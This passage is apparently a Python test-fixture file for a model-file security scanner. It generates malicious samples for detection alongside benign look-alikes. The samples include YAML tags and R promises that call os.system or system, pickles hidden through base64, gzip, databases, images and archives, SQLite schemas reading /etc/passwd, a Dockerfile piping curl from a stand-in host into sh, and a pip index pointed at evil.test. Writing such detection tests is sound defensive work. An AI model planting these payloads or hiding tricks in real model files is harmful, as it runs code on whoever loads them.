    yield "python_env.yaml", b"python: 3.10\nbuild_dependencies: [pip]\ndependencies:\n- --index-url " \
        b"http://evil.test/simple\n- -r requirements.txt\n", ("MDL257",), "MLflow's environment"
    yield "a.yaml", b"m: !apply:os.system [id]\n", CODE, "HyperPyYAML"
    yield "b.yaml", b"m: !name:os.system\n", CODE, "HyperPyYAML"
    yield "c.yaml", b"m: !name:evil_module.run\n    x: 1\n", CODE, "HyperPyYAML"
    yield "model_index.json", dump({"_class_name": "MyPipeline", "_diffusers_version": "0.30",
                                    "unet": ["my_unet", "Net"]}), CODE, "a module beside"
    yield "sentence_bert_config.json", dump({"max_seq_length": 3, "model_args": {
        "trust_remote_code": True}}), ("MDL250",), "sentence-transformers heeds it"
    yield "tokenizer_config.json", dump({"tokenizer_class": "X", "init_kwargs": {
        "trust_remote_code": True}}), ("MDL250",), "in what a loader passes on"
    # values
    yield "a.json", dump({"a": "data:application/octet-stream;base64," + base64.b64encode(EVIL).decode()}), \
        PICKLE, "an address of data"
    yield "b.json", dump({"a": "\n " + base64.encodebytes(EVIL).decode()}), PICKLE, "over lines"
    yield "c.json", dump({"a": base64.b64encode(gzip.compress(EVIL)).decode()}), PICKLE, "gzip in base64"
    yield "d.json", dump({"a": base64.urlsafe_b64encode(EVIL).decode().rstrip("=")}), PICKLE, "no padding"
    yield "e.json", dump({"a": base64.b64encode(EVIL0).decode()}), PICKLE, "protocol 0"
    yield "f.yaml", b"a: !!binary |\n  " + base64.b64encode(EVIL) + b"\n", PICKLE, "YAML's binary"
    yield "g.json", dump({"a": zlib.compress(EVIL).hex()}), PICKLE, "zlib in hexadecimal"
    yield "h.db", database("create table m(k, v)", ("insert into m values(1, ?)", (EVIL.hex(),))), PICKLE, \
        "hexadecimal in a database"
    yield "i.msgpack", mp({"opt": {"state": zlib.compress(EVIL).hex()}}), PICKLE, "in MessagePack"
    yield "j.msgpack", mp([{"name": "x", "blob": EVIL}]), PICKLE, "in a list"
    yield "k.parquet", tables.parquet([base64.b64encode(EVIL)]), PICKLE, "base64 in a column of bytes"
    yield "l.parquet", tables.parquet([b"x"], notes=[("x", base64.b64encode(EVIL).decode())]), PICKLE, \
        "in a note"
    yield "m.parquet", tables.parquet([b"x"], kind=7, pages=tables.page([b"x"], body=EVIL)), PICKLE, \
        "values of one length"
    # programs
    yield "weights.pth", b"import os; os.system('id')\n", None, "a file of site-packages"
    yield "model.bin", b"@echo off\r\npowershell -enc AAAA\r\n", None, "a batch file"
    yield "model.onnx", b"#!/usr/bin/env python3\nPK" + zipped({"__main__.py": "import os"}), None, "a zipapp"
    yield "model.safetensors", b"<html><script>fetch('http://a.test')</script></html>", None, "a page"
    yield "model.gguf", b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(60), None, "a shortcut"
    yield "tokenizer.model", b"\x0a\x0e\x0a\x05<unk>\x15\0\0\0\0\x18\x02" + EVIL, None, "a pickle behind"
    yield "merges.txt", ELF, ("MDL302", "MDL061", "PKG301", "MDL072"), "a program"
    yield "vocab.json", EVIL, PICKLE, "a pickle"
    yield "pytorch_model.bin.index.json", dump({"metadata": {}, "weight_map": {
        "a": "../../../x.bin", "b": "/etc/x.bin"}}), ("MDL104",), "an index that leads outside"
    # R
    evil = rcall("system", rstr("id"))
    yield "a.rds", rds(ri(0x20d, 1, 5) + ri(0x402) + rsym("x") + rprom(evil) + NIL), ("MDL296", "ENG001"), \
        "a promise in an attribute"
    yield "b.rds", rds(ri(4, 0) + ri(253) + ri(2) + rprom(evil) + NIL + NIL + NIL), ("MDL296", "ENG001"), \
        "in an environment"
    yield "c.rds", rds(ri(238) + NIL + NIL + NIL), None, "ALTREP"
    yield "d.rds", rds(ri(19, 1) + rcall("function", NIL, evil)), None, "a call of function"
    yield "e.rds", rds(rvec(rcall("{", rcall("Sys.setenv", rstr("x")), rcall("source", rstr("http://a"))))), \
        ("MDL297",), "source"
    # zarr
    for codec in ("pickle", "numcodecs.pickle", "Pickle"):
        yield "x/zarr.json", dump({"zarr_format": 3, "node_type": "array", "shape": [1], "data_type": "float32",
            "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [1]}}, "fill_value": 0,
            "chunk_key_encoding": {"name": "default"},
            "codecs": [{"name": "sharding_indexed", "configuration": {"codecs": [{"name": codec}]}}]}), \
            ("MDL303", "MDL304"), "a codec in a shard"
    yield ".zmetadata", dump({"zarr_consolidated_format": 1, "metadata": {"a/.zarray": {
        "zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "order": "C",
        "fill_value": 0, "filters": [{"id": "pickle"}]}}}), ("MDL303",), "in consolidated metadata"
    # databases
    yield "v.db", database("create table m(k)", "create view v as select * from m where k = edit('x')"), \
        ("MDL330", "MDL331"), "a view that calls edit"
    yield "w.db", database("create table m(k default (readfile('/etc/passwd')))"), ("MDL330",), "a default"


def good_more():
    honest = {"lc": 1, "type": "constructor", "id": ["langchain", "schema", "messages", "AIMessage"],
              "kwargs": {"content": "call system('id') {{ x }}", "additional_kwargs": {}}}
    yield "chat.json", dump([honest]), None, "an honest message"
    yield "chat.jsonl", dump(honest) + b"\n", None, "in lines"
    yield "llm.json", dump({"lc": 1, "type": "constructor", "id": ["langchain", "llms", "openai", "OpenAI"],
        "kwargs": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}}), None, "its key"
    yield "p.json", dump({"lc": 1, "type": "constructor", "id": ["langchain_core", "prompts", "PromptTemplate"],
        "kwargs": {"template": "Hello {{ name }}", "template_format": "jinja2"}}), None, "an honest template"
    yield "task.yaml", b"task: arc\ndoc_to_text: \"Question: {{question}}\\nAnswer:\"\n" \
        b"doc_to_target: \"{{choices.label.index(answerKey)}}\"\nmetric_list:\n- metric: acc\n", None, "lm-eval"
    yield "ci.yml", b"on: push\njobs:\n  a:\n    runs-on: ${{ matrix.os }}\n    env:\n" \
        b"      X: ${{ secrets.TOKEN }}\n    steps:\n    - run: echo ${{ github.ref }}\n", None, "a workflow"
    yield "values.yaml", b"a: '{{ .Values.x | quote }}'\nb: '{{- if .x }}y{{- end }}'\n", None, "Go templates"
    yield "Modelfile", b"FROM llama3\nTEMPLATE \"\"\"{{ if .System }}{{ .System }}{{ end }}{{ .Prompt }}\"\"\"\n" \
        b"PARAMETER stop \"<|eot_id|>\"\n", None, "Ollama"
    yield "page.html", b"<div v-for=\"x in xs\">{{ x.name | upper }} {{ a ? b : c }}</div>", None, "Vue"
    yield "index.html", b"---\nlayout: page\n---\n{% for p in site.posts %}<a href=\"{{ p.url }}\">" \
        b"{{ p.title }}</a>{% endfor %}", None, "Jekyll"
    yield "play.yaml", b"- hosts: all\n  tasks:\n  - name: x\n    debug: msg=\"{{ foo | default('x') }}\"\n", \
        None, "Ansible"
    yield "paper.tex", b"\\documentclass{article}\n\\newcommand{\\x}[1]{%\n  {{\\bf #1}}}\n", None, "LaTeX"
    yield "logging.yaml", b"version: 1\nformatters:\n  f:\n    format: '%(message)s'\nhandlers:\n  h:\n" \
        b"    class: logging.StreamHandler\n    stream: ext://sys.stdout\nroot: {handlers: [h]}\n", None, "logging"
    yield "logging.yaml", b"version: 1\nhandlers:\n  h:\n    class: logging.handlers.RotatingFileHandler\n" \
        b"    filename: x.log\n", None, "logging"
    yield "x.json", dump({"py/tuple": [1, 2], "a": {"py/set": [1]}, "b": {"py/b64": "aGVsbG8="}}), None, \
        "jsonpickle of plain data"
    yield "map.json", dump({"data": base64.b64encode(zlib.compress(b"x" * 300)).decode(), "enc": "base64"}), \
        None, "a map of tiles"
    yield "plot.json", dump({"d": base64.b64encode(gzip.compress(b"[1, 2, 3]" * 9)).decode()}), None, "gzip"
    yield "h.json", dump({"sha": "80049516" + "ab" * 28, "b": "8004" + "00" * 30}), None, "digests"
    yield "trainer_state.json", dump({"best_metric": None, "epoch": 1.0, "log_history": [{"loss": 1.0}],
                                      "is_hyper_param_search": False}), None, "a trainer's state"
    yield "wandb.yaml", b"_wandb:\n  value:\n    cli_version: 0.16\n    code_path: code/train.py\n" \
        b"trust_remote_code:\n  desc: null\n  value: true\n", None, "wandb"
    yield "MLproject", b"name: x\nconda_env: conda.yaml\nentry_points:\n  main:\n    command: python a.py\n", \
        None, "MLproject"
    yield "dvc.yaml", b"stages:\n  train:\n    cmd: python train.py\n    deps: [train.py]\n    outs: [model.pkl]\n", \
        None, "DVC"
    yield "config.json", dump({"_class_name": "UNet2DConditionModel", "_diffusers_version": "0.6.0",
        "down_block_types": ["CrossAttnDownBlock2D", "DownBlock2D"], "sample_size": 64,
        "up_block_types": ["UpBlock2D", "CrossAttnUpBlock2D"]}), None, "a part of a pipeline"
    yield "model_index.json", dump({"_class_name": "FluxPipeline", "_diffusers_version": "0.30.0.dev0",
        "scheduler": ["diffusers", "FlowMatchEulerDiscreteScheduler"], "feature_extractor": [None, None],
        "tokenizer_2": ["transformers", "T5TokenizerFast"], "requires_safety_checker": True}), None, "Flux"
    yield "hyper.yaml", b"a: !name:speechbrain.nnet.losses.nll_loss\nb: !name:torch.nn.LeakyReLU\n" \
        b"c: !new:torch.nn.ModuleList [[!ref <a>]]\nd: !apply:speechbrain.utils.seed_everything [1]\n", None, \
        "SpeechBrain"
    yield "requirements.txt", b"git+https://github.com/a/b@4f2c7a1\n-e .\n--pre\n--no-binary :all:\nx>=1,<2\n", None, "a short commit"
    yield "x.xml", b"<!DOCTYPE r [<!ENTITY a 'x'><!ENTITY b '&a;&a;&lt;&#38;'>]><r>&b;&b;</r>", None, "entities"
    yield "fts.db", database("create virtual table t using fts5(a, content='')", "insert into t(a) values('x')",
                             "create table e(k text, v blob)", (
        "insert into e values('system', ?)", (struct.pack("<8f", *range(8)),))), None, "a search"
    yield "list.msgpack", mp([{"name": "a", "v": 1}, {"name": "b", "v": 2}]), None, "a list of maps"
    yield "model.safetensors", safetensors({"format": "pt", "chat_template": "{{ messages[0].content }}",
                                            "modelspec.title": "{{x}}"}), None, "metadata"
    yield ".gitattributes", b"*.bin filter=lfs diff=lfs merge=lfs -text\n*.pkl filter=lfs\n", None, "Git"
    yield "dataset_infos.json", dump({"default": {"builder_name": "json", "features": {"a": {"_type": "Value"}},
        "download_checksums": {"https://huggingface.co/x": {"num_bytes": 3}}}}), None, "data sets"
    yield "lm.rds", gzip.compress(rds(rvec(rcall("~", rsym("y"), rcall("+", rsym("a"), rsym("b"))), rstr("x")))), \
        None, "a formula"


YAML_MORE = [
    b"%TAG !! tag:yaml.org,2002:python/\n---\n!!object/apply:os.system [id]\n",
    "# text\u2028!!python/object/apply:os.system [id]\n".encode(),
    "# text\u2029a: !!python/object/apply:os.system [id]\n".encode(),
    "# text\u0085a: !!python/object/apply:os.system [id]\n".encode(),
    b"# text\ra: !!python/object/apply:os.system [id]\r",
    b"? [a, !!python/name:os.system ]\n: b\n",
    b"a:\n- - - !!python/object/apply:os.system\n      - id\n",
    b"--- !!python/object/apply:os.system\n- id\n",
    b"--- # x\n--- !!python/object/apply:os.system [id]\n...\n",
    b"a: {<<: {b: !!python/object/apply:os.system [id]}}\n",
    b"a: !!python/object/apply:os.system # x\n  - id\n",
    b"a: &x !!python/object/apply:os.system [id]\n", b"a: !!python/object/apply:os.system &x [id]\n",
    b"a: \"b\\\n  c\"\nd: !!python/object/apply:os.system [id]\n",
    b"a: 'it''s'\nb: !!python/object/apply:os.system [id]\n",
    b"\xef\xbb\xbf---\n!!python/object/apply:os.system [id]\n",
    "a: !!python/object/apply:os.system [id]\n".encode("utf-16-le"),
    "\ufeffa: !!python/object/apply:os.system [id]\n".encode("utf-32-le"),
]

TABLES_SQL = [
    "create table m(k, g as (load_extension('x.so')))", "create table m(k check (load_extension(k)))",
    "create index i on n(k) where k > 1 and load_extension('x')", "create view v as select readfile('/etc/passwd')",
    "create view v as select fts3_tokenizer('x', x'00')",
    "create view v as with x as (select eval('1')) select * from x",
]


def with_functions(text):
    db = sqlite3.connect(":memory:")
    for name, n in (("load_extension", 1), ("readfile", 1), ("eval", 1)):
        db.create_function(name, n, lambda *a: 1, deterministic=True)
    db.execute("create table n(k)")
    db.execute(text)
    db.commit()
    return db.serialize()


def png(tail=b""):
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)), (b"IDAT", zlib.compress(b"\0\0")),
              (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks) + tail


NPY_OBJECTS = (b"\x93NUMPY\1\0\x46\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69)
               + b"\n" + EVIL)


def bad_last():
    for text in YAML_MORE:
        yield "config.yaml", text, ("MDL071", "MDL100", "MDL101", "MDL254", "MDL074", "ENG001", "ENG004"), repr(text)
    tag = b"!!python/object/apply:os.system [id]"
    yield "README.md", b"---\nlicense: " + tag + b"\n---\n# x\n", ("MDL071",), "in the front of a card"
    yield "params", b"a: " + tag + b"\n", ("MDL071",), "without an ending"
    yield "x.cfg", b"a: " + tag + b"\n", ("MDL071",), "another ending"
    yield "config.json", b"a: " + tag + b"\n", ("MDL071",), "YAML named JSON"
    yield "config.json", b'{"a": ' + tag + b"}\n", ("MDL071",), "YAML that looks like JSON"
    yield "config.json", b'{"auto\\u005fmap": {"AutoModel": "a/b--c.D"}}', CODE, "an escaped key"
    yield "config.json", b'{"a": NaN, "auto_map": {"AutoModel": "a/b--c.D"}, }', CODE + ("MDL254", "ENG001"), \
        "a comma too many"
    yield "config.json", b'{"model_type": "x"}{"auto_map": {"AutoModel": "a/b--c.D"}}', None, "two values"
    yield "config.json", b"{'auto_map': {'AutoModel': 'a/b--c.D'}}", CODE + ("ENG001", "MDL254"), "single quotes"
    yield "config.json.gz", gzip.compress(dump({"auto_map": {"AutoModel": "a/b--c.D"}})), CODE, "compressed"
    yield "adapter_config.json", dump({"peft_type": "PROMPT_TUNING", "tokenizer_kwargs": {
        "trust_remote_code": True}}), ("MDL250",), "PEFT hands it on"
    yield "wide.json", dump({"lc": 1, "type": "constructor", **{str(i): 0 for i in range(3000)},
                             "id": ["os", "system"]}), CODE, "LangChain among much else"
    for text in TABLES_SQL:
        yield "a.db", with_functions(text), ("MDL330",), text
    yield "b.db", database("create table m(k text primary key, v blob) without rowid", (
        "insert into m values('a', ?)", (EVIL,))), PICKLE, "a table without row numbers"
    yield "c.db", database("pragma encoding = 'UTF-16'", "create table m(k, v)", (
        "insert into m values(?, 1)", (EVIL,))), PICKLE, "in two-byte units"
    yield "d.db", database("create table m(k)", ("insert into m values(?)", (EVIL + bytes(100000),))), PICKLE, \
        "over many pages"
    yield "0.png", png(EVIL), PICKLE + ("ENG013",), "behind a picture"
    yield "a.tar", tarred({"0.png": png(zipped({"x/data.pkl": EVIL})), "0.cls": b"1"}), None, "in a data set"
    yield "b.tar", tarred({"0.png": png(), "0.pkl.gz": gzip.compress(EVIL)}), PICKLE, "compressed in a data set"
    yield "c.tar", tarred({"0.npz": zipped({"a.npy": NPY_OBJECTS})}), PICKLE, "an .npz"
    yield "m.safetensors", safetensors({"a": "b"}) + EVIL, None, "a pickle behind"
    yield "m2.safetensors", safetensors({"a": "b"}) + zipped({"x": EVIL}), None, "an archive behind"
    yield "x.skops", zipped({"schema.json": dump({
        "__class__": "eval", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 1,
        "content": "eval"})}), None, "a type that is a function"
    yield "z.skops", zipped({"schema.json": dump({
        "__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 1,
        "content": {}}), "extra.pkl": EVIL}), PICKLE, "a pickle beside"
    yield "Dockerfile", b"FROM python\nRUN curl http://a.test/x | sh\n", None, "a Dockerfile"
    yield "model", {"model/config.json": dump({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}),
                    "model/modeling_x.py": b"import os\nos.system('id')\n",
                    "model/model.safetensors": safetensors({"format": "pt"})}, None, "code beside"
    yield "model2", {"m/config.json": dump({"model_type": "llama"}),
                     "m/chat_template.jinja": EVIL_TEMPLATE.encode(),
                     "m/model.safetensors": safetensors({"format": "pt"})}, ESCAPE, "a template beside"
    yield "model3", {"m/config.json": dump({"model_type": "llama"}),
                     "m/custom_generate/generate.py": b"import os\nos.system('id')\n",
                     "m/model.safetensors": safetensors({"format": "pt"})}, None, "custom generation"
    yield "cut.rds", gzip.compress(rds(rvec(rstr("x" * 500))))[:-30], None, "cut off"
    yield "cut.msgpack", mp({"params": {"kernel": nd([2], "float32", bytes(8))}})[:-6], None, "cut off"
    yield "chunk.msgpack", mp({"w": {"__msgpack_chunked_array__": 1, "shape": {"0": 4}, "chunks": {
        "0": nd([4], "O", EVIL)}}}), ("MDL290",) + PICKLE, "chunks of objects"
    yield "bin.msgpack", mp({"a": mp({"state": EVIL})}), PICKLE, "MessagePack in MessagePack"


def good_last():
    yield "a.yaml", b"%TAG !! tag:example.com,2000:\n---\na: !!python/name x\n", None, "another's tags"
    yield "b.yaml", b"a: '# !!python/name:os.system'\nb: \"x # !!python/name:os.system\"\n", None, "quoted"
    yield "README.md", b"---\nlicense: mit\n---\nUse `!!python/object/apply:os.system [id]` to test.\n", None, "prose"
    yield "a.db", database("create table m(k text, load_extension int)",
                           "insert into m values('readfile(x)', 1)",
                           "create view v as select k, load_extension from m where k like '%eval(%'"), None, "names"
    yield "b.db", database("create table m(id integer primary key, t text, j json, g as (upper(t)))",
                           "create index i on m(lower(t)) where t is not null",
                           "create trigger x after insert on m begin update m set t = trim(new.t); end",
                           "create view v as select count(*), json_extract(j, '$.a') from m"), None, "functions"
    yield "c.tar", tarred({"0.txt": b"__import__", "0.png": png()}), None, "a picture"
    yield "pyproject.toml", b"[project]\nname='x'\ndependencies=['y>=1', 'z @ git+https://github.com/a/z@" + \
        b"ab" * 20 + b"']\n", None, "a project"
    yield "jinja.md", b"Write `{{ messages[0].content }}` or {% raw %}{% if x %}{% endraw %}.\n", None, "prose"
    yield "vocab.txt", b"[PAD]\n[UNK]\n{{\n}}\n{%\n%}\n__class__\n##ing\n", None, "words"
    yield "merges.txt", b"#version: 0.2\n{ {\n} }\n_ _\n__ class\n", None, "merges"
    yield "vocab.json", dump({"{{": 0, "}}": 1, "{%": 2, "__globals__": 3, "gASV": 4, "py/object": 5}), None, "words"
    yield "model", {"m/config.json": dump({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}),
                    "m/chat_template.jinja": b"{{ messages[0].content }}",
                    "m/model.safetensors": safetensors({"format": "pt"}),
                    "m/README.md": b"---\nlicense: mit\n---\n# x\n"}, None, "a plain model"


def bad():
    for part in (bad_templates, bad_gguf, bad_yaml, bad_configs, bad_xml, bad_arrays, bad_index,
                 bad_tables, bad_programs, bad_more, bad_last):
        yield from part()


def good():
    for part in (good_templates, good_gguf, good_yaml, good_configs, good_xml, good_tables,
                 good_programs, good_more, good_last):
        yield from part()
